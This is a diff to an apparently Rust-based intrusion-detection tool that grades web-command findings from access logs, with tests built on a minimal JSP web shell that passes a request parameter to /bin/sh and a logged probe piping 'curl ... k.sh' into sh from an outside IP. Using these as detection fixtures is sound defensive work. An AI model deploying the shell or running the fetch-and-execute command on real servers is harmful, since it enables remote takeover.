@@ -85,10 +85,11 @@ fn requests_by_path<'a, T>(
     by_path
 }
 
-/// Whether a logged request reached the script it names: a 2xx or 3xx answer. A 5xx is a proxy whose
-/// backend was down (502, 503, 504) or a page that failed: it ran no command the log can vouch for.
+/// Whether a logged request reached the script it names: a 2xx answer. A 3xx is often a redirect that
+/// answers every request without running any page (port 80 to 443); a 5xx is a proxy whose backend was
+/// down (502, 503, 504) or a page that failed: neither ran a command the log can vouch for.
 fn reached(l: &ServiceLogLine) -> bool {
-    matches!(&l.log.event, LogEvent::WebRequest { status, .. } if (200..400).contains(status))
+    matches!(&l.log.event, LogEvent::WebRequest { status, .. } if (200..300).contains(status))
 }
 
 /// How long before the first command request to a script its last write still makes it deployed for
@@ -109,11 +110,13 @@ fn written_for_use(file: &FileRecord, hits: &[(&ServiceLogLine, Vec<u8>)]) -> bo
 /// `MT-ENT-001`, one finding per requested script. The log names a path, and any client sends any query
 /// to any page (the internet's ThinkPHP probe asks every `index.php` to `wget` a kit; a
 /// `GET /wp-config.php?x=curl ...|sh` picks its own page): a script at that path is the finding's
-/// artifact (high) only when it is itself the intrusion's ([`webshells::Judge::intrusions`]: its content
-/// is a web shell's, or it lies where an application keeps no code; or [`written_for_use`]: written
-/// shortly before the first command request to it). Any other page is the application
-/// that was asked, context a remediation never touches, and the finding stays low: the log is the
-/// evidence.
+/// artifact only when something in the file or its place says the intrusion made it
+/// ([`webshells::Judge::intrusions`], or [`written_for_use`]). The finding is high only when that reason
+/// is conclusive (MT-PER-070 judges the content a web shell at high, a hidden name); a weaker one (a
+/// write directory, a review-level content verdict, a write just before the request: a deploy followed
+/// by a probe looks the same) makes it medium, so the plan lists the script as a review item instead of
+/// quarantining it. Any other page is the application that was asked, context a remediation never
+/// touches, and the finding stays low: the log is the evidence.
 fn web_commands(ctx: &Context) -> Vec<Finding> {
     let judge = webshells::Judge::new(ctx);
     let mut out = Vec::new();
@@ -122,19 +125,27 @@ fn web_commands(ctx: &Context) -> Vec<Finding> {
         if hits.is_empty() {
             continue;
         }
-        let files: Vec<(&FileRecord, Option<String>)> = scripts_at(ctx, &script)
+        let files: Vec<(&FileRecord, Option<(bool, String)>)> = scripts_at(ctx, &script)
             .into_iter()
             .map(|f| {
                 let why = judge.intrusions(ctx, f).or_else(|| {
                     written_for_use(f, &hits).then(|| {
-                        "written shortly before the first command request to it".to_owned()
+                        (
+                            false,
+                            "written shortly before the first command request to it".to_owned(),
+                        )
                     })
                 });
                 (f, why)
             })
             .collect();
-        let severity = if files.iter().any(|(_, why)| why.is_some()) {
+        let severity = if files
+            .iter()
+            .any(|(_, why)| why.as_ref().is_some_and(|w| w.0))
+        {
             Severity::High
+        } else if files.iter().any(|(_, why)| why.is_some()) {
+            Severity::Medium
         } else {
             Severity::Low
         };
@@ -155,7 +166,7 @@ fn web_commands(ctx: &Context) -> Vec<Finding> {
         }
         for (file, why) in files {
             f = match why {
-                Some(why) => f
+                Some((_, why)) => f
                     .subject(file_subject(file))
                     .evidence(format!("the script on disk: {} ({why})", file.path.escaped())),
                 None => f.subject_as(file_subject(file), Role::Context).evidence(format!(
@@ -536,16 +547,21 @@ mod tests {
     }
 
     /// A shell whose content MT-PER-070 does not score (Tomcat manager's two-line cmd.jsp: the input in
-    /// a variable, exec on the next line) is the intrusion's when it was written within
-    /// DEPLOYED_BEFORE_USE_SECS before the first command request to it; the same page written a day
-    /// earlier is the application's (context, low).
+    /// a variable, exec on the next line) written within DEPLOYED_BEFORE_USE_SECS before the first
+    /// command request to it is the finding's artifact, but at medium: a deploy followed by the
+    /// internet's routine probe looks the same, so the plan lists it for review instead of quarantining
+    /// it (review of train 3, item 2). The same page written a day earlier is the application's
+    /// (context, low).
     #[test]
-    fn a_script_deployed_just_before_its_use_is_the_artifact() {
+    fn a_script_deployed_just_before_its_use_is_a_review_artifact() {
         let jsp: &[u8] = b"<%@ page import=\"java.io.*\" %><%\nString c = request.getParameter(\"c\");\nProcess p = Runtime.getRuntime().exec(new String[]{\"/bin/sh\", \"-c\", c});\n%>\n";
         // 10/Jun/2025:11:02:19 +0000
         let first_use = 1_749_553_339;
         let iocs = Indicators::builtin();
-        for (written, high) in [(first_use - 4, true), (first_use - 86_400, false)] {
+        for (written, severity, role) in [
+            (first_use - 4, Severity::Medium, Role::Artifact),
+            (first_use - 86_400, Severity::Low, Role::Context),
+        ] {
             let (mut rec, content) =
                 fixture::file(b"/var/lib/tomcat9/webapps/mgmt/cmd.jsp", Some(jsp));
             rec.mtime.secs = written;
@@ -565,11 +581,55 @@ mod tests {
             });
             assert_eq!(found.len(), 1, "{found:#?}");
             let f = &found[0];
-            assert_eq!(f.severity >= Severity::High, high, "{f:#?}");
-            let role = if high { Role::Artifact } else { Role::Context };
+            assert_eq!(f.severity, severity, "{f:#?}");
             assert!(
                 !f.subjects.is_empty() && f.subjects.iter().all(|s| s.role == role),
                 "{f:#?}"
+            );
+        }
+    }
+
+    /// A library's own script in a directory named like a write place (`vendor/psr/cache/src/`) that the
+    /// internet's probe asks to run a download is no high artifact: a write directory alone is a reason
+    /// for review (medium), never for quarantine unasked (review of train 3, item 1); a 3xx answer (a
+    /// redirect that runs no page) reaches nothing.
+    #[test]
+    fn a_probe_to_a_librarys_script_in_a_cache_directory_is_for_review_only() {
+        let iocs = Indicators::builtin();
+        let php: &[u8] = b"<?php\nnamespace Psr\\Cache;\ninterface CacheItemInterface { public function getKey(); }\n";
+        for (status, expected) in [("200", Some(Severity::Medium)), ("301", None)] {
+            let log = format!(
+                "198.51.100.7 - - [10/Jun/2025:11:02:18 +0000] \"GET /wp-content/plugins/p/vendor/psr/cache/src/CacheItemInterface.php?c=curl+-fsSL+http://198.51.100.7/k.sh%7Csh HTTP/1.1\" {status} 160\n\
+10.0.0.4 - - [10/Jun/2025:11:03:00 +0000] \"GET /?s=bash+tutorial HTTP/1.1\" 200 100\n\
+10.0.0.4 - - [10/Jun/2025:11:03:05 +0000] \"GET /wp-login.php HTTP/1.1\" 200 100\n"
+            );
+            let (mut rec, content) = fixture::file(
+                b"/var/www/html/wp-content/plugins/p/vendor/psr/cache/src/CacheItemInterface.php",
+                Some(php),
+            );
+            rec.mtime.secs = 1_600_000_000;
+            let model = fixture::model(
+                vec![
+                    fixture::file(b"/var/log/nginx/access.log", Some(log.as_bytes())),
+                    (rec, content),
+                ],
+                vec![],
+            );
+            let found: Vec<_> = detect(&Context {
+                model: &model,
+                iocs: &iocs,
+            })
+            .into_iter()
+            .filter(|f| f.rule == rules::ENT_001.id)
+            .collect();
+            assert_eq!(
+                found.first().map(|f| f.severity),
+                expected,
+                "{status}: {found:#?}"
+            );
+            assert!(
+                found.iter().all(|f| f.severity < Severity::High),
+                "{found:#?}"
             );
         }
     }
